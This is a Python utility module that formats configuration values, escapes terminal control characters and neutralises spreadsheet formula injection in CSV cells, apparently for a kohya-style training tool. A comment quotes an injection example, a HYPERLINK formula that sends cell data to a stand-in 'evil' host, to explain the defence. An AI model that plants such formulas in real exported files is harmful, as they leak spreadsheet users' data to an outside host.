"""How values are written for people: one convention for the terminal tables, the Markdown reports (the ``value``
filter of report.templates), the change words of a diff, the findings and the comments of generated files.

The convention is kohya's: a value reads the way it would be written in a kohya TOML config or on its command line.
``None`` is ``unset`` (the argument is absent: kohya's default applies), booleans are ``true``/``false`` (TOML), a
float keeps every digit it has (``0.0001``, ``1e-05``, ``16`` for 16.0, but ``0.000123456789`` in full, never
rounded to six digits), a list is its items as the command line gives them (``--network_args a=1 b=2``: ``a=1 b=2``)
and an empty one ``[]``. Stdlib only: every layer may use it.

Also the CSV cells a spreadsheet will not run (``csv_cell``), the other place where values are written out, and
text as a terminal line shows it (``one_line``: the console tables and the CLI's error lines).
"""

from __future__ import annotations

import math
import unicodedata
from typing import Any

UNSET = "unset"


def format_value(value: Any) -> str:
    """``value`` as kohya's TOML/CLI would write it (module docstring)."""
    if value is None:
        return UNSET
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        return format_float(value)
    if isinstance(value, (list, tuple)):
        return " ".join(format_value(v) for v in value) or "[]"
    return str(value)


def format_float(value: float) -> str:
    """The short form (``16``, ``0.0001``, ``1e-05``) when it is exact, else every digit (``repr``)."""
    if not math.isfinite(value):
        return str(value)
    short = f"{value:g}"
    return short if float(short) == value else repr(value)


def one_line(text: object) -> str:
    """``text`` on one line, whatever a file name or value in it holds: line breaks and other control or format
    characters (a terminal escape included) are shown escaped (``\\n``, ``\\x1b``); backslashes stay as written.
    A run name or value from a file must not move the cursor or recolour the terminal."""
    return "".join(ch if ch == " " or unicodedata.category(ch) not in _INVISIBLE
                   else {"\n": "\\n", "\r": "\\r", "\t": "\\t"}.get(ch) or
                   (f"\\x{ord(ch):02x}" if ord(ch) < 256 else f"\\u{ord(ch):04x}" if ord(ch) < 0x10000
                    else f"\\U{ord(ch):08x}")
                   for ch in str(text))


_INVISIBLE = {"Cc", "Cf", "Zl", "Zp"}


# CSV cells that a spreadsheet will not run.
#
# Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula (tab and
# CR start one too, after the program strips them), so a prompt, note or model name such as
# ``=HYPERLINK("http://evil/?"&A1)`` written as is would run when the CSV is opened. Such a text cell gets a leading
# ``'`` (OWASP's advice), which spreadsheets show as a plain-text marker.
#
# Numbers are not neutralised: a value the tool holds as an int or a float (a negative LoRA strength, a seed, a
# metric) is written as a number, which no spreadsheet reads as a formula, and prefixing it would turn ``-0.5`` into
# text and break sums and pandas' dtypes. Only text is: even text that looks like a number, e.g. a prompt ``-1``,
# because it is text in the data and the spreadsheet must not evaluate it.

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """A value for csv.writer: None as empty, numbers as they are, text neutralised when it would start a
    formula."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_row(values: list[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]
